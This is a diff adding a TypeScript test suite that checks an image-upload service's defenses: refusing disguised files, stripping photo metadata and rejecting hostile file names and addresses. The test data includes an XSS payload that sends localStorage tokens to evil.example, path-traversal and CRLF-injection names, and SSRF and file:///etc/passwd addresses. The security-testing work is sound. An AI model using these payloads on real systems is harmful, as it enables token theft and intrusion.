@@ -1,0 +1,183 @@
+import { once } from 'node:events'
+import { readdirSync } from 'node:fs'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { join } from 'node:path'
+import sharp from 'sharp'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { imageAt, imageWidths } from '../../../../contract/listings/images.ts'
+import { aListing } from '../../../../testkit/listings.ts'
+import { aPerson, type Person } from '../../../../testkit/people.ts'
+import { aPhonePhoto, aPicture, upload } from '../../../../testkit/pictures.ts'
+import { openWorld, type World } from '../../../../testkit/world.ts'
+
+let world: World
+let seller: Person
+beforeAll(async () => {
+  world = await openWorld()
+  seller = await aPerson(world)
+})
+afterAll(() => world.close())
+
+const aDraft = () => aListing(world, seller, { status: 'Draft', pictures: 0 })
+const get = (url: string) => world.app.inject({ method: 'GET', url })
+const storedFiles = () => {
+  try {
+    return readdirSync(join(world.dataDir, 'images'), { recursive: true })
+      .map(String)
+      .filter(name => name.includes('.'))
+  } catch {
+    return []
+  }
+}
+const SCRIPT = '<script>fetch("//evil.example/?"+localStorage.t)</script>'
+
+describe('case 25: files that are not what they say', () => {
+  it.each([
+    ['an SVG with a script', `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${SCRIPT}</svg>`],
+    ['an SVG behind an XML header', `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`],
+    ['a page', `<!doctype html><html>${SCRIPT}</html>`],
+    ['a GIF with an archive', `GIF89a\x01\x00\x01\x00\x00\x00\x00;PK\x03\x04${SCRIPT}`],
+    ['a PDF', '%PDF-1.7\n1 0 obj'],
+    ['nothing', ''],
+  ])('refuses %s, whatever type and name it comes with', async (_what, text) => {
+    const { id } = await aDraft()
+    for (const [name, type] of [
+      ['photo.jpg', 'image/jpeg'],
+      ['photo.svg', 'image/svg+xml'],
+    ] as const) {
+      const answer = await upload(world, id, [{ content: Buffer.from(text, 'latin1'), name, type }], seller)
+      expect([answer.status, answer.body.reason]).toEqual([415, 'not_an_image'])
+    }
+  })
+
+  it('refuses an SVG that begins like a JPEG, a GIF or a TIFF that no loader is allowed to read', async () => {
+    const { id } = await aDraft()
+    const disguised = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from(`<svg>${SCRIPT}</svg>`)])
+    expect((await upload(world, id, [disguised], seller)).body.reason).toBe('image_unusable')
+    for (const format of ['gif', 'tiff', 'avif'] as const) {
+      const file = await sharp(await aPicture())
+        .toFormat(format)
+        .toBuffer()
+      expect((await upload(world, id, [file], seller)).status).toBe(415)
+      await expect(sharp(file).metadata()).rejects.toThrow(/unsupported/)
+    }
+  })
+
+  it('takes a picture with a wrong type by what it is, and drops what hangs on it', async () => {
+    const { id } = await aDraft()
+    const polyglot = Buffer.concat([await aPicture({ format: 'png' }), Buffer.from(`${SCRIPT}PK\x03\x04`)])
+    const { body } = await upload(world, id, [{ content: polyglot, name: 'a.html', type: 'text/html' }], seller)
+    for (const width of imageWidths) {
+      const reply = await get(imageAt(body.images[0]!, width))
+      expect(reply.rawPayload.includes('script')).toBe(false)
+      expect((await sharp(reply.rawPayload).metadata()).format).toBe('webp')
+    }
+  })
+
+  it('serves pictures so that a browser can do nothing with them but show them', async () => {
+    const { id } = await aListing(world, seller, { pictures: 0 })
+    const { body } = await upload(world, id, [await aPicture()], seller)
+    const { headers } = await get(body.images[0]!)
+    expect(headers).toMatchObject({
+      'content-type': 'image/webp',
+      'x-content-type-options': 'nosniff',
+      'content-disposition': expect.stringMatching(/^inline; filename="[0-9a-f-]{36}-640\.webp"$/),
+    })
+    expect(headers['content-security-policy']).toMatch(/^default-src 'none';.*sandbox$/)
+  })
+})
+
+describe('case 27: what a photo tells about its maker', () => {
+  it('is gone from every served size, and the photo is upright', async () => {
+    const { id } = await aListing(world, seller, { pictures: 0 })
+    const photo = await aPhonePhoto()
+    const told = await sharp(photo).metadata()
+    expect(told.exif!.toString('latin1')).toContain('SERIAL-0042')
+    expect([told.orientation, told.xmp === undefined]).toEqual([6, false])
+
+    const { body } = await upload(world, id, [photo], seller)
+    for (const width of imageWidths) {
+      const { rawPayload } = await get(imageAt(body.images[0]!, width))
+      const facts = await sharp(rawPayload).metadata()
+      expect([facts.exif, facts.xmp, facts.iptc, facts.icc, facts.orientation]).toEqual(Array(5).fill(undefined))
+      for (const trace of ['EXIF', 'Exif', 'XMP', 'SERIAL', 'Example Phones', 'xmpmeta'])
+        expect(rawPayload.includes(trace)).toBe(false)
+      expect(facts.height).toBeGreaterThan(facts.width)
+    }
+  })
+})
+
+describe('case 28: names and addresses that point elsewhere', () => {
+  it('never uses the name of a file', async () => {
+    const { id } = await aDraft()
+    const names = ['../../x.jpg', 'a\0b.jpg', `${'n'.repeat(10_240)}.jpg`, 'x.jpg.html', 'a%0d%0aset-cookie: t=1.jpg']
+    for (const name of names) {
+      const answer = await upload(world, id, [{ content: await aPicture(), name }], seller)
+      if (answer.status !== 200) expect(answer.status).toBeLessThan(500)
+      await world.api('PUT /deadstock/:id', { params: { id }, body: { data: { images: [] } } }, seller)
+    }
+    await upload(world, id, [{ content: await aPicture(), name: '../../x.jpg' }], seller)
+    expect(storedFiles().length).toBeGreaterThan(0)
+    for (const file of storedFiles()) expect(file).toMatch(/^[0-9a-f]{2}\/[0-9a-f-]{36}-(320|640|1280)\.webp$/)
+    expect(readdirSync(world.dataDir)).toEqual(['images'])
+  })
+
+  it('takes no address from outside and asks nobody', async () => {
+    let asked = 0
+    const decoy = createServer((_request, reply) => {
+      asked++
+      reply.end()
+    }).listen(0, '127.0.0.1')
+    await once(decoy, 'listening')
+    const origin = `http://127.0.0.1:${(decoy.address() as AddressInfo).port}`
+
+    const { id } = await aListing(world, seller, { status: 'Draft' })
+    const other = await aListing(world, await aPerson(world), { pictures: 0 })
+    const foreign = await world.services.images.add(await aPicture())
+    await world.db
+      .insertInto('images')
+      .values({ ...foreign, user_id: null })
+      .execute()
+    await world.db
+      .insertInto('listing_images')
+      .values({ listing_id: other.id, image_id: foreign.id, position: 0 })
+      .execute()
+    const before = await world.db.selectFrom('listing_images').selectAll().where('listing_id', '=', id).execute()
+    for (const address of [
+      'http://169.254.169.254/',
+      `${origin}/images/${foreign.id}-640.webp`,
+      'javascript:alert(1)',
+      'file:///etc/passwd',
+      `/images/${foreign.id}-640.webp`,
+      '../../secret-key',
+    ]) {
+      const answer = await world.api(
+        'PUT /deadstock/:id',
+        { params: { id }, body: { data: { images: [address] } } },
+        seller,
+      )
+      expect([answer.status, answer.body.errors?.[0]?.field]).toEqual([422, 'images'])
+    }
+    expect(await world.db.selectFrom('listing_images').selectAll().where('listing_id', '=', id).execute()).toEqual(
+      before,
+    )
+    expect(asked).toBe(0)
+    decoy.close()
+  })
+
+  it('replaces pictures while others read: every reply is a whole picture or none', async () => {
+    const { id } = await aListing(world, seller, { pictures: 2 })
+    const { body } = await upload(world, id, [await aPicture(), await aPicture()], seller)
+    const replies = await Promise.all([
+      ...Array.from({ length: 10 }, () => get(body.images[3]!)),
+      world.api('PUT /deadstock/:id', { params: { id }, body: { data: { images: body.images.slice(0, 3) } } }, seller),
+      ...Array.from({ length: 10 }, () => get(body.images[3]!)),
+    ])
+    for (const reply of replies)
+      if ('rawPayload' in reply && reply.statusCode === 200)
+        expect((await sharp(reply.rawPayload).metadata()).width).toBe(640)
+    expect((await get(body.images[3]!)).statusCode).toBe(404)
+    expect((await get(body.images[2]!)).statusCode).toBe(200)
+  })
+})
